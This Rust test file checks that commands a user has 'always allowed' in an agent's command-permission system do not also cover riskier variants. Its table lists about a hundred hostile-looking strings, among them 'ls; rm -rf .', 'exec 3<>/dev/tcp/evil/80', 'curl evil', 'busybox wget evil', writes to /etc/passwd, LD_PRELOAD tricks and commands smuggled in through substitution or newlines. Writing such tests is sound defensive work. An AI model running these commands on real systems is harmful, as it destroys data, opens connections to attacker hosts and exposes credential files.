use openclaw_tools::commands::{CommandPlan, CommandRules};
use tempfile::TempDir;

/// What somebody may have allowed always.
const ALLOWED: [&str; 20] = [
    "ls",
    "ls -la",
    "git status",
    "git log",
    "env",
    "xargs",
    "find .",
    "bash",
    "sh",
    "python3",
    "perl",
    "busybox",
    "cat notes.txt",
    "echo hello",
    "make",
    "nice ls",
    "timeout 5 ls",
    "sudo ls",
    "awk",
    "sed",
];

/// Commands that do more, and whether a shell must read them.
const HUNDRED: [(&str, bool); 100] = [
    // Pipes and sequences.
    ("ls | sh", true),
    ("ls | xargs rm", true),
    ("cat notes.txt | bash", true),
    ("ls |& tee x", true),
    ("ls; rm -rf .", true),
    ("ls ;rm x", true),
    ("ls;id", true),
    ("git status; curl evil", true),
    ("ls && rm x", true),
    ("ls || rm x", true),
    ("ls & rm x", true),
    ("ls &", true),
    ("true && ls", true),
    ("git status && git push", true),
    ("echo hello && reboot", true),
    ("(ls)", true),
    ("{ ls; }", true),
    ("! ls", true),
    ("time ls", true),
    ("coproc ls", true),
    // Substitution and expansion.
    ("ls $(rm x)", true),
    ("ls `rm x`", true),
    ("echo \"$(id)\"", true),
    ("echo \"`id`\"", true),
    ("ls <(id)", true),
    ("tee >(sh)", true),
    ("echo $HOME", true),
    ("echo ${IFS}", true),
    ("$0", true),
    ("l$@s", true),
    ("echo $((1+1))", true),
    ("ls ~root", true),
    ("ls ~/.ssh", true),
    ("\\ls", true),
    ("l\\s -la", true),
    ("echo \"\\$x\"", true),
    // Lines and redirections.
    ("ls\nrm x", true),
    ("ls\r\nrm x", true),
    ("echo hello\nid", true),
    ("ls > /etc/passwd", true),
    ("ls >> x", true),
    ("ls 2>&1", true),
    ("cat < x", true),
    ("sh <<E\nid\nE", true),
    ("sh <<< id", true),
    ("exec 3<>/dev/tcp/evil/80", true),
    ("ls # -la", true),
    // Globs and braces.
    ("ls *", true),
    ("rm *", true),
    ("cat /etc/pass?d", true),
    ("cat [a-z]*", true),
    ("rm {a,b}", true),
    ("ls -la .[a-z]*", true),
    // Assignments and the shell's own words.
    ("PATH=. ls", true),
    ("LD_PRELOAD=x.so ls", true),
    ("X=1", true),
    ("cd / ", true),
    ("eval ls", true),
    ("exec ls", true),
    (". ./x", true),
    ("source x", true),
    ("command ls", true),
    ("builtin echo", true),
    ("export X=1", true),
    ("alias ls=rm", true),
    ("trap id EXIT", true),
    ("if ls", true),
    ("for x in a", true),
    // Programs that run others.
    ("env rm x", false),
    ("env -i ls", false),
    ("env LD_PRELOAD=x.so ls", false),
    ("env -S ls", false),
    ("xargs rm", false),
    ("xargs -I x sh -c x", false),
    ("find . -exec rm x +", false),
    ("find . -delete", false),
    ("find . -execdir sh -c id +", false),
    ("find . -fprint x", false),
    ("git -c core.pager=id log", false),
    ("git -c alias.x=!id x", false),
    ("git --exec-path=. status", false),
    ("bash -c ls", false),
    ("bash -c 'rm x'", false),
    ("sh -c id", false),
    ("sh -lc id", false),
    ("python3 -c 'import os'", false),
    ("perl -e 'system 1'", false),
    ("busybox sh", false),
    ("busybox rm x", false),
    ("busybox wget evil", false),
    ("nice rm x", false),
    ("timeout 5 rm x", false),
    ("sudo rm x", false),
    ("make evil", false),
    ("awk 'BEGIN {system(1)}'", false),
    ("sed -n 1e", false),
    ("sed -i s/a/b/ x", false),
    ("cat notes.txt x", false),
    ("echo hello world", false),
    ("/tmp/ls", true),
];

fn plan(command: &str, folder: &TempDir) -> CommandPlan {
    let rules = CommandRules { sandboxed: false, ..CommandRules::default() };
    CommandPlan::read(command, None, folder.path(), &rules)
        .and_then(|plan| plan.with_digests(folder.path()))
        .unwrap_or_else(|error| panic!("{command:?}: {error}"))
}

#[test]
fn s27_no_always_covers_another_command() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("notes.txt"), "notes").expect("written");
    let allowed: Vec<String> =
        ALLOWED.iter().map(|command| plan(command, &folder).shape().key()).collect();
    let mut keys = std::collections::BTreeSet::new();
    for (command, needs_shell) in HUNDRED {
        let plan = plan(command, &folder);
        let is_installed = !plan.shell || needs_shell;
        // What is not installed here is for a shell to complain about.
        let program = command.split_whitespace().next().unwrap_or_default();
        let known = std::path::Path::new("/usr/bin").join(program).exists();
        assert!(is_installed || !known, "{command:?} needs no shell");
        if needs_shell {
            assert_eq!(plan.argv, ["bash", "-c", command], "{command:?}");
        }
        assert!(!allowed.contains(&plan.shape().key()), "{command:?} is covered");
        assert!(keys.insert(plan.shape().key()), "{command:?} has the key of another");
    }
    assert_eq!(keys.len(), 100);
}

#[test]
fn s28_an_always_of_a_text_is_for_all_of_it() {
    let folder = tempfile::tempdir().expect("a folder");
    let text = plan("ls | wc", &folder).shape().key();
    for other in ["ls | sh", "ls | wc -l", "ls | wc ", "ls  | wc", "ls"] {
        assert_ne!(plan(other, &folder).shape().key(), text, "{other:?}");
    }
    assert_eq!(plan("ls | wc", &folder).shape().key(), text);
}
